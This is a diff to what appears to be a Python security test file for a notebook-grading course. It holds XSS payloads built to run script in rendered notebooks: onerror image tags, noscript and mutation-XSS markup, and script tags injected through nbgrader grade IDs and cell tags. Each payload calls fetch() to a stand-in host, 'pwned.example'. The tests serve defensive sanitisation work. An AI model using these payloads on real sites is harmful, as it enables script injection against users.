@@ -15,6 +15,13 @@ from small_course import solved
 HOST = "pwned.example"
 
 
+#: The attacks that fail on nbconvert's own pages, too; no settings of the course may help them.
+VAIN = set(
+    "md-math md-mutation md-noscript out-latex out-plain out-png out-stream out-traceback raw svg "
+    "tag".split()
+)
+
+
 def call(name: str) -> str:
     """JavaScript that tells of the attack ``name``; it needs neither quotes nor spaces."""
     return f"fetch(`http://{HOST}/{name}`)"
@@ -38,7 +45,6 @@ MARKDOWN = [
     f'<noscript><p title="</noscript><img src=x onerror={call("md-noscript")}>">',
     "<math><mtext><table><mglyph><style><!--</style>"
     f'<img title="--&gt;&lt;img src=x onerror={call("md-mutation")}&gt;">',
-    "![no such picture](attachment:gone.png)",
 ]
 
 #: Links that must lead nowhere: to a script, or into the instructor's JupyterLab.
@@ -108,7 +114,7 @@ def forged() -> list[NotebookNode]:
     """Cells that a graded notebook may hold, whoever put them there."""
     named = new_markdown_cell("Named.")
     name = f'"><script>{call("name")}</script>'
-    named.metadata["nbgrader"] = {"grade_id": name, "grade": False, "solution": True}
+    named.metadata["nbgrader"] = {"grade_id": name, "grade": True, "solution": True, "points": 1}
     named.metadata["nbgrader"] |= {"locked": False, "task": False, "schema_version": 3}
     tags = [f'"><script>{call("tag")}</script>', "x navbar-fixed-top"]
     return [named, new_code_cell("1", outputs=_outputs(), metadata={"tags": tags})]
